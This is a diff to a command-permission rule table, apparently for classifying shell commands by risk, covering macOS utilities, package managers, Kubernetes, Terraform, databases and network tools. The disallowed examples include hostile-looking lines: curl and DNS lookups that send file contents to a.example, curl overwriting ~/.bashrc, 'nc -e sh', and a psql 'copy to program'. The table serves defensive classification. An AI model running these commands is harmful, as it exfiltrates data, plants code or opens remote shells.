@@ -2,7 +2,7 @@
 export const serviceRows = `
 # processes and services
 ps | @ps | . | ps aux ;; ps -ef | ps eww ;; ps auxe
-{top,htop,btop,pgrep,pidof,pstree,lsof,ss,netstat,iotop,iftop,nethogs,atop,pmap,pwdx,glances,procs,dstat} | names | -K! --kill! --export! * | @ | @ --kill 3000
+{top,htop,btop,pgrep,pidof,pstree,lsof,ss,netstat,iotop,iftop,nethogs,atop,pmap,pwdx,glances,procs,dstat} | names | -K! --kill! --export! --output> -w> * | @ | @ --kill 3000
 fuser | names | -k! --kill! -i! * | fuser 3000/tcp | fuser -k 3000/tcp ;; fuser -kn tcp 80
 pgrep | names | * | pgrep -fl node
 kill | @kill | . | kill -0 1 ;; kill -l | kill 1 ;; kill -9 1
@@ -11,27 +11,63 @@ systemctl | @systemctl | -l -n= -a --no-pager --user --all --failed --type= -t= 
 service | processes
 service --status-all | names
 journalctl | reads | --vacuum-size! --vacuum-time! --vacuum-files! --rotate! --flush! --sync! --relinquish-var! --setup-keys! --update-catalog! --output= -o= -u= -n= -p= --since= --until= -S= -U= -t= -k -f -r -b -e -x * --cursor-file! | journalctl -u x -n 50 | journalctl --vacuum-time=1d
-{launchctl,sc,rc-service,rc-update,update-rc.d,chkconfig,initctl,supervisorctl,sv,loginctl,timedatectl,localectl,sysctl,modprobe,insmod,rmmod,mount,umount,swapon,swapoff,fdisk,parted,mkfs,mkfs.ext4,mkswap,wipefs,blkdiscard,cryptsetup,lvremove,vgremove,pvremove,zfs,zpool,btrfs,losetup,tune2fs,fsck,useradd,userdel,usermod,groupadd,groupdel,adduser,deluser,passwd,chpasswd,visudo,chsh,chfn,iptables,ip6tables,nft,ufw,firewall-cmd,ip,ifconfig,route,nmcli,wg,wg-quick,tc,brctl,ethtool,rfkill,hciconfig,alsactl,update-alternatives,dpkg-reconfigure,update-grub,grub-install,efibootmgr,fwupdmgr,a2ensite,a2dissite,nginx,apachectl,caddy,certbot,logrotate,depmod,dconf,gsettings,defaults,xdg-mime,xdg-settings,chronyc,ntpdate,hwclock,setenforce,semanage,restorecon,auditctl,setquota,edquota,mdadm,hdparm,nvme,ipmitool} | outside
+{launchctl,sc,rc-service,rc-update,update-rc.d,chkconfig,initctl,supervisorctl,sv,loginctl,timedatectl,localectl,sysctl,modprobe,insmod,rmmod,umount,swapon,swapoff,fdisk,parted,mkfs,mkfs.ext4,mkswap,wipefs,blkdiscard,cryptsetup,lvremove,vgremove,pvremove,zfs,zpool,btrfs,losetup,tune2fs,fsck,useradd,userdel,usermod,groupadd,groupdel,adduser,deluser,passwd,chpasswd,visudo,chsh,chfn,iptables,ip6tables,nft,ufw,firewall-cmd,ip,nmcli,wg,wg-quick,tc,brctl,ethtool,rfkill,hciconfig,alsactl,update-alternatives,dpkg-reconfigure,update-grub,grub-install,efibootmgr,fwupdmgr,a2ensite,a2dissite,nginx,apachectl,caddy,certbot,logrotate,depmod,dconf,gsettings,defaults,xdg-mime,xdg-settings,chronyc,ntpdate,hwclock,setenforce,semanage,restorecon,auditctl,setquota,edquota,mdadm,hdparm,nvme,ipmitool} | outside
 supervisorctl {status,avail,version} | names | *
 timedatectl {status,show,list-timezones} | names
 localectl {status,list-locales} | names
 loginctl {list-sessions,list-users,session-status,user-status} | names
 timedatectl | group | .
 launchctl {list,print} | names | *
-sysctl {-a,-n} | names | -w! -p! * | sysctl -n kernel.hostname | sysctl -n -w a=b
+sysctl {-a,-n} | @onlyShows | -w! -p! --system! --load! * | sysctl -n kernel.hostname | sysctl -n -w a=b
 ip {addr,a,address,route,r,link,neigh,n} | ip-show
 ip {-br,-4,-6,-s,-c,-j,-o} | ip-show
 ip {netns,tunnel,xfrm} | outside
 nmcli {general,-v} | names max:1 | . | @ | @ x set y
-nginx {-t,-T,-v,-V} | names | * | @ | nginx -s reload
+nginx {-t,-T,-v,-V} | names | -s! -g! * | @ | nginx -s reload
 apachectl {configtest,-t,-S,-v,-M} | names | *
 caddy {validate,version,list-modules,adapt} | names | --overwrite! -w! --config= --adapter= | @ | caddy reload
 certbot certificates | names
+mdfind | names | -onlyin= -name= -count -live! -0 single | mdfind -onlyin . invoice | mdfind -live x
+mdls | names | *
+sips | reads needs:-g,--getProperty,-1,--verify | single -g= --getProperty= -1 --verify -s! --setProperty! -o! --out! -Z! -z! -r! -f! -c! -p! -e! -E! -m! -M! -i! -j! -d! --resampleHeight! --resampleWidth! --resampleHeightWidthMax! --rotate! --flip! --cropToHeightWidth! --padToHeightWidth! | sips -g pixelWidth a.png ;; sips -g all a.png | sips -Z 100 a.png ;; sips -g all -s format png a.jpg --out b.png
+textutil | reads needs:-stdout,-info | single -stdout -info -convert= -format= -encoding= -inputencoding= -font= -fontsize= -strip -noload -nostore -output! -outputdir! -extension! | textutil -convert txt -stdout a.docx ;; textutil -info a.docx | textutil -convert txt a.docx ;; textutil -convert txt -output b.txt a.docx
+plutil | reads needs:-p,-lint,-type,-help | single -p -lint -s -type= -expect= -extract! -convert! -insert! -replace! -remove! -create! -o! -e! -r | plutil -p a.plist ;; plutil -lint a.plist | plutil -convert xml1 a.plist ;; plutil -replace a -string b c.plist
+pmset | names needs:-g | single -g | pmset -g batt ;; pmset -g | pmset sleepnow ;; pmset -a sleep 0
+networksetup {-listallhardwareports,-listallnetworkservices,-getinfo,-getdnsservers,-getairportnetwork,-listnetworkserviceorder,-getwebproxy,-getmacaddress,-version} | names | *
+networksetup {-setdnsservers,-setairportpower,-setmanual,-setnetworkserviceenabled} | outside
+scutil {--dns,--proxy,--nwi,--get} | names | *
+scutil {--set} | outside
+diskutil {list,info,listFilesystems} | names | *
+diskutil {eraseDisk,eraseVolume,mount,unmount,unmountDisk,rename,partitionDisk,repairDisk,verifyDisk,apfs,eject,secureErase} | outside
+diskutil apfs list | names | *
+tmutil {listbackups,status,destinationinfo,latestbackup,listlocalsnapshots,version,isexcluded,compare} | names | *
+tmutil {deletelocalsnapshots,startbackup,stopbackup,enable,disable,delete,addexclusion,removeexclusion,snapshot} | outside
+codesign | names needs:-d,-v,--verify,--display,-dv,-dvv,-dvvv,-dvvvv | single -d -v -dv -dvv -dvvv -dvvvv --verify --display --deep --strict --verbose= --entitlements= -R= -s! --sign! --remove-signature! -f! | codesign -dv a.app ;; codesign --verify --deep a.app | codesign -s x a.app
+spctl | names needs:--assess,-a,--status,--list | single --assess -a -v -vv -t= --type= --status --list --verbose --context= --master-disable! --add! --remove! | spctl --assess -v a.app | spctl --master-disable
+xattr | names needs:-l,-p | -l -p -v -r -x -h -w! -d! -c! -s! | xattr -l a ;; xattr -p com.apple.quarantine a | xattr -d x a ;; xattr -cr . ;; xattr -w a b c
+dscl | group | -q -plist -u! -P! -p!
+dscl . | group | .
+dscl . {-list,-read,-search,-ls} | names | * | @ /Users | dscl . -create /Users/x
+dscl . {-create,-delete,-change,-append,-passwd,-merge} | outside
+log | group | .
+log {show,stats} | reads | *
+log {stream} | reads | *
+log {erase,config,collect} | outside
+{ioreg,vm_stat,nettop,fs_usage,kextstat,zprint,memory_pressure,sc_usage,latency,airport,dns-sd,GetFileInfo,dsmemberutil,heap,leaks,vmmap,sample,footprint,lsvfs,otool-classic,atos,nm-classic} | names | -o! -f! -file! * | @
+softwareupdate {-l,--list,--history,--list-full-installers} | names
+softwareupdate | outside
+xcode-select {-p,--print-path,-v,--version} | names
+xcode-select {-s,--switch,--install,--reset} | outside
+mdutil -s | names | *
+hdiutil {info,imageinfo,verify,checksum,help} | names | *
+hdiutil {attach,detach,create,convert,resize,compact,eject} | outside
 dconf {read,list,dump} | names
 gsettings {get,list-keys,list-schemas,range} | names | *
 defaults read | names | * | defaults read com.apple.dock | defaults write a b c
 ufw status | names | *
-mount {-l} | names max:0
+mount | names max:0 | -l -t= -v | mount ;; mount -t ext4 | mount /dev/sda1 /mnt ;; mount -a
+ifconfig | names max:1 | -a -s -v | ifconfig ;; ifconfig eth0 | ifconfig eth0 down ;; ifconfig eth0 10.0.0.1
+route | names max:0 | -n -v -e | route -n | route add default gw x
 iptables {-L,-S,-nL,-nvL} | names | -F! -X! -A! -D! -I! -P! -Z! -t= * | @ | @ -F
 zfs {list,get} | names | *
 zpool {status,list,get,history} | names | *
@@ -39,29 +75,48 @@ btrfs filesystem {show,df,usage} | names | *
 btrfs filesystem | group | .
 smartctl | names | -t! --test! -s! --smart! -o! -S! -X! * | smartctl -a /dev/sda | smartctl -t long /dev/sda
 crontab | @crontab | . | crontab -l | crontab -r ;; crontab a ;; crontab -e ;; crontab -
-{atq,iwconfig,iw,lsns,lslocks,lslogins,lsipc,chage,faillog,ausearch,aureport,systemd-analyze,systemd-cgls,systemd-cgtop,systemd-detect-virt,networkctl,resolvectl,hostid,pinky,finger,ntpq,vnstat,iwlist,lstopo,turbostat} | names | * | @
+{atq,lsns,lslocks,lslogins,lsipc,ausearch,aureport,systemd-cgls,systemd-cgtop,systemd-detect-virt,hostid,pinky,finger,ntpq,iwlist} | names | -c! * | @
+{iwconfig} | names max:1
+iw {list,phy,dev} | names max:0
+iw dev | names max:0
+chage -l | names max:1
+faillog | names max:0 | -a -u= | faillog -a | faillog -r
+vnstat | names max:0 | -d -m -h -t -l -5 -y -w -i= --json= --oneline= --iface= | vnstat -d | vnstat --remove -i eth0
+systemd-analyze {blame,critical-chain,time,verify,plot,dot,security,calendar,timespan,timestamp,dump,unit-files,unit-paths,cat-config,syscall-filter,condition} | reads | *
+systemd-analyze | names max:0
+networkctl {list,status,lldp,label} | names | *
+networkctl | names max:0
+resolvectl {status,query,statistics,service,show-cache} | names | *
+resolvectl | names max:0
 {apt,apt-get,aptitude} | group | -q -y! -qq -o!
 {apt,apt-get,aptitude} {list,show,search,policy,depends,rdepends,changelog,madison,--version,check} | names | -y * | @ x
 apt-get {-s,--simulate,--dry-run,--print-uris} | names | * | @ upgrade
 apt {-s,--simulate} | names | * | @ upgrade
 {apt,apt-get,aptitude} {install,remove,purge,upgrade,dist-upgrade,full-upgrade,autoremove} | outside needs:-s,--simulate,--dry-run,--just-print,--print-uris | -s --simulate --dry-run --just-print --print-uris -q -y -V | @ -s x | @ x ;; @ -y x
 {apt,apt-get,aptitude} {update,clean,autoclean,download,source,build-dep,edit-sources,satisfy} | outside
-{apt-cache,apt-file,dpkg-query,dlocate,apt-show-versions,rpmquery,pkg-config,pkgconf,repoquery,equery,debsums} | names | * | @ show x
+apt-cache {show,search,policy,depends,rdepends,madison,showpkg,showsrc,pkgnames,stats,dumpavail,unmet,dotty} | names | *
+apt-cache | group | -q -n --names-only
+apt-file {search,list,find,show} | names | *
+apt-file | group | .
+apt-file update | outside
+{dpkg-query,dlocate,apt-show-versions,rpmquery,pkg-config,pkgconf,repoquery,equery,debsums} | names | --generate! * | @ show x
 apt-mark {showhold,showmanual,showauto} | names | *
 apt-key | outside
 dpkg | names needs:-l,-L,-s,-S,--list,--listfiles,--status,--search,-p,--print-avail,--get-selections,-c,-I,--info,--contents,--audit,--verify,-V,--print-architecture,--compare-versions | -l -L -s -S -p -c -I -V --list --listfiles --status --search --print-avail --get-selections --info --contents --audit --verify --print-architecture --compare-versions --no-pager | dpkg -l ;; dpkg -S x | dpkg -i x ;; dpkg -r x ;; dpkg --purge -l x
 rpm | names needs:-q,-V,--query,--verify,-K | -q -a -l -i -f -p -V -R -c -d --query --qf= --queryformat= --verify --last --requires --provides --whatprovides --changelog --scripts -K --all --info --list --whatrequires | rpm -qa ;; rpm -ql x | rpm -i x ;; rpm -e x
 {dnf,yum,zypper,microdnf} | group | -q -C --cacheonly --showduplicates -n
-{dnf,yum,zypper,microdnf} {list,info,search,repolist,provides,repoquery,check-update,deplist,se,lr,if,lu,what-provides,updateinfo,repos,packages} | names | * | @ x
+{dnf,yum,zypper,microdnf} {list,info,search,repolist,provides,repoquery,check-update,deplist,se,lr,if,lu,what-provides,updateinfo,repos,packages} | names | -e! --export! * | @ x
 {dnf,yum,zypper,microdnf} {install,remove,update,upgrade,erase,autoremove,clean,makecache,in,rm,up,dup,ar,reinstall,downgrade,swap,groupinstall,config-manager,module} | outside
 pacman | names needs:-Q,-Ss,-Si,-Qi,-Ql,-Qs,-F | -Q -s -i -l -q -o -e -d -t -u -k -m -Ss -Si -Qi -Ql -Qs -F | pacman -Q ;; pacman -Qi x | pacman -S x ;; pacman -Syu ;; pacman -R x
 {apk,snap,flatpak,brew,port,pkg,nix-env,guix,emerge,choco,winget,scoop} | group | -q -v --quiet
-{apk,snap,flatpak,brew,port,pkg,choco,winget,scoop} {list,info,search,version,find,outdated,deps,leaves,config,doctor,uses,show,desc,cat,options,remote-ls,remotes,history,policy,dot,connections,changes,interfaces,audit,--prefix,--cellar,--version,installed,dependents,contents} | names | --fix! --cache! * | @
+{apk,snap,flatpak,brew,port,pkg,choco,winget,scoop} {list,info,search,version,find,outdated,deps,leaves,doctor,uses,show,desc,cat,options,remote-ls,remotes,history,policy,dot,connections,changes,interfaces,audit,--prefix,--cellar,--version,installed,dependents,contents} | names | --fix! --cache! * | @
 brew services list | names
 brew services | outside
+brew {config,commands} | names max:0
 brew bundle {check,list} | names | *
 brew bundle | outside
 {apk,snap,flatpak,brew,port,pkg,choco,winget,scoop} {install,uninstall,remove,upgrade,update,add,del,refresh,run,tap,untap,cleanup,link,unlink,revert,enable,disable,start,stop,restart,pin,set,autoremove,override,reinstall,edit,delete} | outside
+brew {cleanup,upgrade,autoremove} | outside needs:-n,--dry-run | -n --dry-run -s --prune= --greedy --cask --formula -q | brew cleanup -n ;; brew upgrade --dry-run | brew cleanup ;; brew upgrade
 {nix,nix-shell,nix-build,nixos-rebuild,home-manager,nix-collect-garbage,nix-channel} | code
 nix flake {show,metadata,info} | names | *
 nix flake | group | .
@@ -121,11 +176,13 @@ buildah | code
 {kubectl,oc} config {use-context,set-context,set-cluster,set-credentials,set,unset,delete-context,delete-cluster,delete-user,rename-context} | outside
 {kubectl,oc} auth {can-i,whoami} | names | *
 {kubectl,oc} auth reconcile | outside
-{kubectl,oc} {apply,create,delete,scale,annotate,label,patch,replace,taint,autoscale,expose,run} | outside needs:--dry-run | --dry-run= -f= -o= -n= -k= -l= -R --filename= --output= --namespace= --image= --replicas= --from-literal! --from-file! --from-env-file! --validate= --server-side -p= --type= --overwrite --recursive | @ -f a.yml --dry-run=client | @ -f a.yml ;; @ x
+{kubectl,oc} {apply,create,delete,scale,annotate,label,patch,replace,taint,autoscale,expose,run} | outside needs:--dry-run | --dry-run= -f= -o= -n= -k= -l= -R --filename= --output= --namespace= --image= --replicas= --from-literal! --from-file! --from-env-file! --validate= --server-side -p= --type= --overwrite --recursive --all --now --force --grace-period= --cascade= --ignore-not-found --wait= --timeout= --field-selector= --selector= | @ -f a.yml --dry-run=client ;; @ x --all --dry-run=server | @ -f a.yml ;; @ x
 {kubectl,oc} {edit,drain,cordon,uncordon,attach,debug,port-forward,proxy,cp,rsh,login,logout,new-app,new-project,project,start-build,import-image} | outside
 {kubectl,oc} kustomize | reads | -o! --output! --enable-helm! --enable-exec! * | @ x | @ -o y x
 {kubectl,oc} exec | @inContainer | -n= -c= --namespace= --container= -i -t -it --context= -q | @ web -- ls ;; @ -n a web -- cat /etc/hosts | @ web -- rm x ;; @ -it web -- sh ;; @ web -- env
-kustomize {build,version,cfg} | reads | -o! --output! --enable-helm! --enable-exec! --enable-alpha-plugins! * | @ x | @ -o y x
+kustomize cfg {cat,tree,grep,count} | reads
+kustomize cfg | overwrites
+kustomize {build,version} | reads | -o! --output! --enable-helm! --enable-exec! --enable-alpha-plugins! * | @ x | @ -o y x
 kustomize {edit,create} | overwrites
 {k9s,kubectx,kubens,telepresence,skaffold,tilt} | code
 stern | reads | *
@@ -166,11 +223,17 @@ nomad job | group | .
 nomad job {run,stop,revert,scale,dispatch} | outside
 consul kv get | secret
 vault {status,version} | names | *
-vault {read,write,kv,login,token,delete,unseal,operator,secrets,list} | secret
+vault kv list | names | *
+vault kv | secret
+vault list | names | *
+vault {read,write,login,token,delete,unseal,operator,secrets} | secret
 eksctl get | group | .
 eksctl get {cluster,nodegroup,addon} | names | *
 {terraform,tofu} | group | single -chdir=
-{terraform,tofu} {validate,version,providers,graph,metadata,modules} | names | single -json -no-color -no-tests * | @
+{terraform,tofu} {validate,version,graph,metadata,modules} | names | single -json -no-color -no-tests *
+{terraform,tofu} providers | names max:0 | single -no-color -test-directory=
+{terraform,tofu} providers schema | names | single -json
+{terraform,tofu} providers {lock,mirror} | overwrites
 {terraform,tofu} plan | reads | single -destroy -lock= -refresh= -var= -var-file= -target= -no-color -input= -compact-warnings -detailed-exitcode -refresh-only -json -parallelism= -replace= -state= -out> -lock-timeout= -generate-config-out> | @ ;; @ -no-color -lock=false | @ -out=main.tf ;; @ -foo
 {terraform,tofu} fmt | names needs:-check,-write=false | single -check -recursive -diff -no-color -list= | @ -check | @ ;; @ -recursive
 {terraform,tofu} state {list} | names | *
@@ -185,7 +248,7 @@ eksctl get {cluster,nodegroup,addon} | names | *
 {terraform,tofu} test | code
 {terraform,tofu} init | project needs:-lockfile=readonly,-backend=false | single -backend= -input= -no-color -lockfile= | . | @ ;; @ -upgrade
 {terraform,tofu} {apply,destroy,import,taint,untaint,refresh,force-unlock,login,logout,console,get} | outside
-terragrunt {plan,validate,graph,version} | reads | single -no-color *
+terragrunt {plan,validate,graph,version} | reads | single -no-color -out> --terragrunt-json-out-dir! --json-out-dir! --out-dir! *
 terragrunt {apply,destroy,run-all,import,init} | outside
 {pulumi,cdk,cdktf,serverless,sls,sam,copilot,amplify,cdk8s} | group | -C= --cwd= -s= --stack= --profile=
 pulumi {preview,about,version,whoami} | reads | * --save-plan! | @
@@ -203,8 +266,9 @@ cdk {deploy,destroy,bootstrap,synth,init,watch,import} | outside
 gsutil {cp,mv,rm,rsync,mb,rb,acl,iam,setmeta,signurl,notification} | sends
 gsutil | group | -m -q
 bq {ls,show,version,head} | reads | *
-bq {query,rm,mk,load,cp,extract,insert,update} | outside
-{s3cmd,mc,b2,rclone} {ls,lsd,lsl,lsf,lsjson,du,info,size,about,version,tree,stat,check,cryptcheck,listremotes,la} | names | --output! * | @ x:y
+bq query | outside needs:--dry_run | --dry_run --use_legacy_sql= --nouse_legacy_sql --format= --project_id= --location= | bq query --dry_run "select 1" | bq query "delete from t"
+bq {rm,mk,load,cp,extract,insert,update} | outside
+{s3cmd,mc,b2,rclone} {ls,lsd,lsl,lsf,lsjson,du,info,size,about,version,tree,stat,check,cryptcheck,listremotes,la} | names | --output> -o> --combined> --differ> --match> --error> --missing-on-src> --missing-on-dst> --dest-after> --log-file> * | @ x:y
 rclone {copy,sync,move,delete,purge,rmdir,mount,serve,config,copyto,moveto,mkdir,link,bisync,deletefile,dedupe,cleanup,touch,rcat} | sends
 {s3cmd,mc,b2} {put,sync,del,rm,cp,mv,mb,rb,mirror,upload,setacl,admin,policy,upload-file} | sends
 rclone | group | .
@@ -224,7 +288,8 @@ gh secret list | names | *
 gh variable {list,get} | @secretByName | -R= --repo= -e= --env= -o= --org= --json= | @ X | @ DEPLOY_TOKEN
 gh auth status | names | -t! --show-token! -h= --hostname= -a --active | gh auth status | gh auth status --show-token ;; gh auth token
 gh auth {token,login,logout,refresh,setup-git,switch} | secret
-gh config {list,get} | names | *
+gh config list | names | *
+gh config get | @secretByName | -h= --host= | gh config get editor | gh config get oauth_token
 gh api | @ghApi | -X= --method= -f= -F= -H= --field= --raw-field= --header= --input= -q= --jq= -t= --template= --paginate --slurp -i --include --cache= --hostname= -p= --silent --verbose | gh api repos/a/b ;; gh api graphql -f query='{ viewer { login } }' | gh api -X DELETE repos/a/b ;; gh api repos/a/b -f a=b ;; gh api graphql -f query='mutation { x }'
 gh release download | overwrites needs:--skip-existing | --skip-existing -p= --pattern= -R= -A= --archive= | gh release download v1 --skip-existing | gh release download v1 --clobber ;; gh release download v1
 gh run download | overwrites
@@ -242,8 +307,14 @@ circleci config validate | fetches | *
 # databases
 psql | @sqlClient | -d= -h= -p= -U= -c= -f= -A -t -x -q -X -E -e -1 -b -n -w -F= -R= -P= -v= -l --command= --file= --dbname= --host= --port= --username= --csv --tuples-only --no-align --html --no-psqlrc --quiet --single-transaction --list -o> --output> --set= --variable= --pset= --field-separator= --expanded --echo-errors --no-password --version -L> -H | psql -d a -c 'select 1' ;; psql -l | psql -c 'drop table a' ;; psql -f a.sql ;; psql -c 'select 1; delete from a' ;; psql -c "copy a to program 'x'" ;; psql -c '\\! rm x'
 {mysql,mariadb} | @sqlClient | -u= -h= -P= -D= -e= -N -B -s -t -r -p -E -v -A -w -f! -S= --user= --host= --port= --database= --execute= --batch --skip-column-names --table --silent --raw --vertical --protocol= --html --xml --ssl-mode= --password --safe-updates -U --version -V --default-character-set= --tee! --column-names --defaults-group-suffix= | @ a -e 'show tables' | @ -e 'drop table a' ;; @ a
-mysqladmin {status,ping,version,processlist,extended-status,variables} | names | -u= -h= -p *
-{mysqladmin,mysqldump,mariadb-dump,mysqlimport,mysqlcheck,pg_dump,pg_dumpall,pg_restore,createdb,dropdb,createuser,dropuser,vacuumdb,reindexdb,pg_ctl,initdb,pg_basebackup,mongodump,mongorestore,mongoimport,mongoexport,mongosh,mongo,cqlsh,clickhouse-client,clickhouse,influx,etcdctl,neo4j-admin,cypher-shell,sqlcmd,sqlplus,bcp,flyway,liquibase,dbmate,pgbench,pgloader,redis-server,memcached,usql,litecli,pgcli,mycli,kafka-topics,kafka-topics.sh,kafka-consumer-groups,kafkacat,kcat,rabbitmqctl,rabbitmqadmin,nats,mosquitto_pub,mosquitto_sub} | outside
+mysqladmin {status,ping,version,processlist,extended-status,variables} | names max:0 | -u= -h= -p *
+{mysqladmin,mysqlimport,mysqlcheck,pg_dumpall,pg_restore,createdb,dropdb,createuser,dropuser,vacuumdb,reindexdb,pg_ctl,initdb,pg_basebackup,mongodump,mongorestore,mongoimport,mongoexport,clickhouse,influx,etcdctl,neo4j-admin,cypher-shell,sqlcmd,sqlplus,bcp,flyway,liquibase,dbmate,pgbench,pgloader,redis-server,memcached,usql,litecli,pgcli,mycli,kafkacat,kcat,rabbitmqctl,rabbitmqadmin,nats,mosquitto_pub,mosquitto_sub} | outside
+pg_dump | reads | -s -a -O -x -c -C -b -v -t= -T= -n= -N= -d= -h= -p= -U= -F= -Z= -f> --file> --schema-only --data-only --no-owner --no-privileges --no-acl --clean --if-exists --create --table= --exclude-table= --schema= --dbname= --host= --port= --username= --format= --inserts --column-inserts --no-comments --section= -w --no-password -E= --encoding= --exclude-schema= --exclude-table-data= --compress= -j! --jobs! | pg_dump --schema-only app ;; pg_dump -t users app ;; pg_dump -f app-2025-06-01.sql app | pg_dump -f a.sql app ;; pg_dump -Fd -j 4 -f dump app
+{mysqldump,mariadb-dump} | reads | -d -t -u= -h= -P= -B -A -R -E -p -q -n --no-data --no-create-info --user= --host= --port= --databases --all-databases --routines --events --triggers --single-transaction --skip-lock-tables --quick --where= --compact --skip-comments --skip-add-drop-table --complete-insert --no-tablespaces --default-character-set= --ignore-table= --skip-dump-date --hex-blob --set-gtid-purged= -r> --result-file> --tables | mysqldump --no-data app | mysqldump app --result-file=a.sql ;; mysqldump --delete-master-logs app
+{mongosh,mongo} | @mongo | --quiet --eval= --norc --host= --port= -u= --username= -p! --password! --authenticationDatabase= --tls --json= --nodb -f! --file! --shell! | @ --quiet app --eval 'db.users.countDocuments({active:true})' ;; @ --eval 'db.a.find({b:{$gt:1}}).limit(5).toArray()' | @ ;; @ --eval 'db.dropDatabase()' ;; @ --eval 'db.a.deleteMany({})' ;; @ --eval 'db.a.aggregate([{$out:"b"}])' ;; @ --eval 'db["a"]["drop"]()' ;; @ a.js ;; @ --eval 'db.users.find({},{password:1})'
+clickhouse-client | @sqlClient | -q= --query= -h= --host= --port= -u= --user= -d= --database= --format= -m --multiquery -t | clickhouse-client -q 'select 1' | clickhouse-client -q 'drop table a' ;; clickhouse-client
+cqlsh | @sqlClient | -e= --execute= -k= -u= --request-timeout= --ssl -f! --file! -p! | cqlsh -e 'describe keyspaces' | cqlsh -e 'drop table a' ;; cqlsh -f a.cql
+{kafka-topics,kafka-topics.sh,kafka-consumer-groups,kafka-consumer-groups.sh,kafka-configs,kafka-configs.sh} | names needs:--list,--describe | --list --describe --bootstrap-server= --topic= --group= --all-groups --members --state --verbose --zookeeper= --entity-type= --entity-name= --under-replicated-partitions --offsets --exclude-internal --command-config! --delete! --create! --alter! --reset-offsets! --execute! | @ --list --bootstrap-server a:9092 | @ --delete --topic x ;; @ --list --delete --topic x
 pg_restore {-l,--list} | names | -f! * | @ a.dump
 {pg_isready,mongostat,mongotop} | names | *
 etcdctl {endpoint} | names | *
@@ -256,19 +327,21 @@ duckdb | @sqlite | single -readonly -csv -json -markdown -box -line -list -c= -s
 {redis-cli,valkey-cli} | @redis | -h= -p= -n= -u! -a! --raw --no-raw --csv --json --scan --pattern= --bigkeys --memkeys --stat --latency --hotkeys -r= -i= --tls --no-auth-warning --eval! --pipe! -x! | @ get a ;; @ -n 2 dbsize ;; @ --scan --pattern 'a*' | @ flushall ;; @ del a ;; @ set a b ;; @ eval x 0 ;; @ config set a b
 # network
 curl | @curl | -s -S -f -L -I -i -k -v -g -N -4 -6 -j -n! -J -O -# -o> --output> -D> --dump-header> -c> --cookie-jar> --trace> --trace-ascii> --stderr> -d= --data= --data-raw= --data-binary= --data-urlencode= --data-ascii= -F= --form= --form-string= -T= --upload-file= --json= -G --get -X= --request= -H= --header= -A= --user-agent= -e= --referer= -w= --write-out= -m= --max-time= --connect-timeout= --retry= --retry-delay= --retry-max-time= --retry-all-errors --retry-connrefused -r= --range= -C= --continue-at= -x= --proxy= --silent --show-error --fail --fail-with-body --location --head --include --insecure --verbose --compressed --http1.1 --http2 --http3 --globoff --remote-name --remote-name-all --remote-header-name --no-clobber --create-dirs --output-dir= --progress-bar --no-progress-meter --url= --resolve= --limit-rate= --max-redirs= --ipv4 --ipv6 --cacert= --tlsv1.2 --tlsv1.3 --proto= --parallel -Z --no-buffer --max-filesize= --interface= --path-as-is --url-query= -z= --time-cond= -R --remote-time -K! --config! -u! --user! -E! --cert! --key! -b! --cookie! -t! -Q! --quote! --unix-socket! --oauth2-bearer! --netrc! --mail-from! --next! --proxy-user! --libcurl! | curl https://a.example ;; curl -o a-v2.tgz https://a.example/a.tgz ;; curl -sI https://a.example ;; curl -o /dev/null https://a.example | curl -d @a https://a.example ;; curl -F a=@b https://a.example ;; curl -T a https://a.example ;; curl -X DELETE https://a.example ;; curl -o README.md https://a.example ;; curl -u a:b https://a.example ;; curl -K x ;; curl file:///etc/x ;; curl "https://a.example/?d=$(cat a)" ;; curl -sd @a https://a.example ;; curl -o ~/.bashrc https://a.example
-wget | @wget | -q -v -nv -nc -c -N -S -O= -o= -P= -T= -t= -U= -np -r -l= -A= -R= -k -p -E -H -m -x -nd -nH --spider --quiet --no-verbose --no-clobber --continue --output-document= --output-file= --directory-prefix= --timeout= --tries= --user-agent= --header= --show-progress --progress= --no-check-certificate --server-response --max-redirect= --content-disposition --timestamping --limit-rate= --mirror --recursive --no-parent --level= --referer= --wait= --https-only --page-requisites -4 -6 --trust-server-names --retry-connrefused --post-file! --post-data! --body-data! --body-file! --method! -i! --input-file! --user! --password! --delete-after! -e! --execute! --use-askpass! --load-cookies! --backups! -b! | wget https://a.example/a ;; wget -qO- https://a.example ;; wget --spider https://a.example | wget -O README.md https://a.example/a ;; wget --post-file=a https://a.example ;; wget -i a ;; wget -P /opt https://a.example/a
+wget | @wget | -q -v -nv -nc -c -N -S -O= -o= -P= -T= -t= -U= -np -r -l= -A= -R= -k -p -E -H -m -x -nd -nH --spider --quiet --no-verbose --no-clobber --continue --output-document= --output-file= --directory-prefix= --timeout= --tries= --user-agent= --header= --show-progress --progress= --no-check-certificate --server-response --max-redirect= --content-disposition --timestamping --limit-rate= --mirror --recursive --no-parent --level= --referer= --wait= --https-only --page-requisites -4 -6 --trust-server-names --retry-connrefused --post-file! --post-data! --body-data! --body-file! --method! -i= --input-file= --user! --password! --delete-after! -e! --execute! --use-askpass! --load-cookies! --backups! -b! | wget https://a.example/a ;; wget -qO- https://a.example ;; wget --spider https://a.example | wget -O README.md https://a.example/a ;; wget --post-file=a https://a.example ;; wget -i a ;; wget -P /opt https://a.example/a
 {http,https,xh,httpie} | code
 {http,https,xh} {GET,HEAD} | fetches | -b -h -v -p= --pretty= --print= --follow --headers --body --timeout= --ignore-stdin -F --check-status | @ a.example | @ a.example x=y -o z
 {dig,host,nslookup,drill,kdig,doggo,dog,whois,resolveip} | @lookup | -f! * | @ a.example | @ "$(cat a).x.example"
-{ping,ping6,traceroute,traceroute6,tracepath,mtr,fping,arp,ipcalc,sipcalc} | @lookup | * | @ a.example | @ "$(cat a).x.example"
+arp | names | -d! -s! -f! --delete! --set! --file! * | arp -a | arp -d 10.0.0.1
+{ping,ping6,traceroute,traceroute6,tracepath,mtr,fping,ipcalc,sipcalc} | @lookup | * | @ a.example | @ "$(cat a).x.example"
 {nc,ncat,netcat} | @netcat | -z -v -w= -n -u -4 -6 -q= | @ -zv a.example 80 | @ a.example 80 ;; @ -l 80 ;; @ -e sh a 1
 {telnet,socat,ngrok,cloudflared,bore,frpc,tailscale,ssh-copy-id,ssh-add,ssh-agent,sshfs,autossh,mosh,sftp,ftp,lftp,ncftp,ncftpput,tftp,mail,mailx,mutt,sendmail,msmtp,swaks,wormhole,magic-wormhole,croc,transfer,slackcat,telegram-send,ntfy,curlftpfs,rsyncd,nmap,tcpdump,tshark,wireshark,ettercap,hydra,iperf3,ab,wrk,hey,vegeta,k6,siege,gotify,apprise,termbin,pastebinit,gist,0x0} | sends
 tailscale {status,ip,version,ping,netcheck} | names | *
 ssh-add {-l} | names
